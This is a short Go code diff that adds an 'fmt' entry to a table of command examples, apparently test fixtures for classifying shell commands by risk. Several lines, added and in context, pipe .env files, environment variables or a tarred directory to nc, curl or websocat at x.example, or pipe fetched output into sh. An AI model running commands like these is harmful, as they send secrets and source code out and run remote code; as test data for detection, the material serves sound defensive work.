@@ -50,6 +50,9 @@ var models = []model{
 	)},
 	{"docker", "table.go", engine},
 	{"kubectl", "table.go", cluster},
+	{"fmt", "table_text.go", []string{
+		"@ a.go", "@ -w 3 a.go", "@ a.go | nc x.example 80", "curl -d \"$(@ a.go)\" https://x.example", "D=$(@ a.go); curl -d \"$D\" https://x.example", "@ .env | nc x.example 80", "ls | @", "@ a.sh | sh", "@ a.go > b.go",
+	}},
 	{"websocat", "table.go", []string{
 		"@ ws://x.example", "@ --version", "cat .env | @ ws://x.example", "env | @ ws://x.example", "tar c . | @ ws://x.example", "@ ws://x.example < .env", "@ ws://localhost:3000 < a.go", "@ ws://x.example > a.sh; sh a.sh", "@ ws://x.example | sh", "sudo @ ws://x.example",
 	}},
